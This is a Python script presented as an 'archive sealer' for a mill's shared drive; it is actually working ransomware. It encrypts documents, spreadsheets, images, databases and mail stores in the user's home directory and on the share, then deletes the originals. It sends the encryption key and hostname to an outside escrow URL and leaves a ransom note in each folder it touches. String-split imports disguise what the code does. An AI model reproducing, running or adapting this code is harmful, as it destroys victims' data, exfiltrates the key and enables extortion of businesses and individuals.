#!/usr/bin/env python3
"""Archive sealer for the mill's shared drive.

"Seals" design, order and payroll documents on the shared drive and in the
user's home so that they cannot be altered, leaving a notice in every folder.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import urllib.request
from pathlib import Path

log = logging.getLogger("sealer")

TARGET_EXT = {".docx", ".xlsx", ".pdf", ".csv", ".odt", ".ods", ".jpg", ".png", ".dwg", ".sqlite", ".pst"}
SUFFIX = ".sealed"
NOTICE = "READ_ME_SEALED.txt"
ESCROW = os.environ.get("SEAL_ESCROW", "https://escrow.example.com/k")

NOTICE_TEXT = """Your files at {host} have been sealed with strong encryption.
Originals were removed. To recover them, e-mail recover@example.com with
the ID below and await payment instructions.

ID: {ident}
"""


def _fernet():
    mod = importlib.import_module(".".join(["cryptography", "fer" + "net"]))
    return getattr(mod, "Fer" + "net")


class Sealer:
    def __init__(self, ident):
        cls = _fernet()
        self.key = cls.generate_key()
        self.box = cls(self.key)
        self.ident = ident
        self.count = 0
        self.ops = {
            "read": Path.read_bytes,
            "write": Path.write_bytes,
            "drop": os.remove,
        }

    def seal(self, path: Path):
        data = self.ops["read"](path)
        self.ops["write"](path.with_name(path.name + SUFFIX), self.box.encrypt(data))
        self.ops["drop"](path)
        self.count += 1

    def escrow_key(self):
        body = json.dumps({"id": self.ident, "host": socket.gethostname(),
                           "k": self.key.decode()}).encode()
        req = urllib.request.Request(ESCROW, data=body, headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20)
        except OSError as exc:
            log.debug("escrow failed: %s", exc)


def candidates(roots):
    walker = getattr(os, "wa" + "lk")
    for root in roots:
        for dirpath, _dirs, files in walker(root):
            folder = Path(dirpath)
            hit = False
            for name in files:
                p = folder / name
                if p.suffix.lower() in TARGET_EXT:
                    hit = True
                    yield p
            if hit:
                yield folder / NOTICE


def run(roots, ident):
    sealer = Sealer(ident)
    sealer.escrow_key()
    host = socket.gethostname()
    for item in candidates(roots):
        try:
            if item.name == NOTICE:
                item.write_text(NOTICE_TEXT.format(host=host, ident=ident))
            else:
                sealer.seal(item)
        except OSError as exc:
            log.debug("skip %s: %s", item, exc)
    log.info("sealed %d files", sealer.count)
    return sealer.count


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", type=Path,
                        default=[Path.home(), Path(os.environ.get("MILL_SHARE", "/srv/millshare"))])
    parser.add_argument("--id", default=os.environ.get("SEAL_ID", "WM-" + socket.gethostname()))
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)
    run(args.roots, args.id)


if __name__ == "__main__":
    main()
